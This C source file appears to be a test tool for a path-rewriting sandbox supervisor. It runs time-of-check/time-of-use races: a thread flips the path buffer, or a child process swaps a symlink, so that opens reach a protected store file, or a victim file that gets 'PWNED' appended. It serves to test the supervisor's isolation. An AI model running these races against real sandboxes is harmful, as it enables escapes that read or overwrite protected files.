/* Time-of-check/time-of-use attacks on path rewriting (issue #3, escapes).
 *
 *   iso_race buf-read  PUBLIC STORE N   a second thread flips the path buffer
 *                                       between PUBLIC and STORE while the
 *                                       main thread open(2)s it for reading
 *   iso_race buf-write EXEMPT VICTIM N  the same between EXEMPT (a path the
 *                                       supervisor passes through, e.g.
 *                                       /dev/null) and VICTIM, opened for
 *                                       append and written
 *   iso_race swap LINK PUBLIC STORE N   a child process swaps symlink LINK
 *                                       between PUBLIC and STORE with
 *                                       rename(2) while the parent opens LINK
 *
 * The kernel reads the path from tracee memory when the syscall runs, after
 * the supervisor has looked at it; a supervisor that lets the original
 * buffer through (instead of its own copy) opens whatever the other thread
 * put there last. Prints how many opens saw which content.
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static char buf[4096];
static const char *path_a, *path_b;
static volatile int stop;

static void *flipper(void *arg)
{
	(void)arg;
	size_t la = strlen(path_a) + 1, lb = strlen(path_b) + 1;
	while (!stop) {
		memcpy(buf, path_b, lb);
		memcpy(buf, path_a, la);
	}
	return NULL;
}

static void classify(int fd, long *secret, long *public, long *other)
{
	char data[64] = {0};
	ssize_t n = read(fd, data, sizeof data - 1);
	if (n > 0 && strncmp(data, "SECRET", 6) == 0)
		(*secret)++;
	else if (n > 0 && strncmp(data, "PUBLIC", 6) == 0)
		(*public)++;
	else
		(*other)++;
}

static int buf_race(int write_mode, long n)
{
	pthread_t t;
	long secret = 0, public = 0, other = 0, failed = 0, written = 0;
	strcpy(buf, path_a);
	if (pthread_create(&t, NULL, flipper, NULL) != 0)
		return 2;
	for (long i = 0; i < n; i++) {
		int fd = write_mode ? open(buf, O_WRONLY | O_APPEND)
				    : open(buf, O_RDONLY);
		if (fd < 0) {
			failed++;
			continue;
		}
		if (write_mode) {
			if (write(fd, "PWNED\n", 6) == 6)
				written++;
		} else {
			classify(fd, &secret, &public, &other);
		}
		close(fd);
	}
	stop = 1;
	pthread_join(t, NULL);
	if (write_mode)
		printf("written=%ld failed=%ld\n", written, failed);
	else
		printf("secret=%ld public=%ld other=%ld failed=%ld\n", secret,
		       public, other, failed);
	return 0;
}

static int swap_race(const char *link, const char *pub, const char *store,
		     long n)
{
	char tmp[4096];
	snprintf(tmp, sizeof tmp, "%s.tmp", link);
	unlink(link);
	if (symlink(pub, link) != 0)
		return 2;
	pid_t child = fork();
	if (child == 0) {
		for (;;) {
			const char *targets[2] = {store, pub};
			for (int k = 0; k < 2; k++) {
				unlink(tmp);
				if (symlink(targets[k], tmp) == 0)
					rename(tmp, link);
			}
		}
	}
	long secret = 0, public = 0, other = 0, failed = 0;
	for (long i = 0; i < n; i++) {
		int fd = open(link, O_RDONLY);
		if (fd < 0) {
			failed++;
			continue;
		}
		classify(fd, &secret, &public, &other);
		close(fd);
	}
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	printf("secret=%ld public=%ld other=%ld failed=%ld\n", secret, public,
	       other, failed);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 5 && strcmp(argv[1], "buf-read") == 0) {
		path_a = argv[2];
		path_b = argv[3];
		return buf_race(0, atol(argv[4]));
	}
	if (argc == 5 && strcmp(argv[1], "buf-write") == 0) {
		path_a = argv[2];
		path_b = argv[3];
		return buf_race(1, atol(argv[4]));
	}
	if (argc == 6 && strcmp(argv[1], "swap") == 0)
		return swap_race(argv[2], argv[3], argv[4], atol(argv[5]));
	fprintf(stderr, "usage: iso_race buf-read|buf-write A B N | swap LINK PUB STORE N\n");
	return 2;
}
